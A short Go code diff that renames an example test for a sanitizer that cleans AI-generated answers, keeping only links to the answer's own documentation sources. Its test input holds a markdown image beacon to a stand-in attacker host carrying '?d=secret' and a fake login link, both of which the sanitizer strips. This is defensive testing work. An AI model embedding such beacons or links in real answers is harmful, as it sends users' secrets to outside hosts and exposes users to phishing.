@@ -32,10 +32,10 @@ func ExampleWrapUntrusted() {
 }
 
 // Only links to the answer's own sources survive; images and HTML go.
-func ExampleSanitizeAnswer() {
+func ExampleSanitizeAnswerWithOptions() {
 	answer := "See [chapter 2](https://docs.example/manual/ch2) ![x](https://evil.example/p.png?d=secret) " +
 		"or [this](https://evil.example/login) and <b>https://evil.example/x</b>."
-	fmt.Println(askyourdocs.SanitizeAnswer(answer, []string{"https://docs.example/manual"}))
+	fmt.Println(askyourdocs.SanitizeAnswerWithOptions(answer, []string{"https://docs.example/manual"}, nil))
 	// Output:
 	// See [chapter 2](https://docs.example/manual/ch2) x or this [Link entfernt] and [Link entfernt].
 }
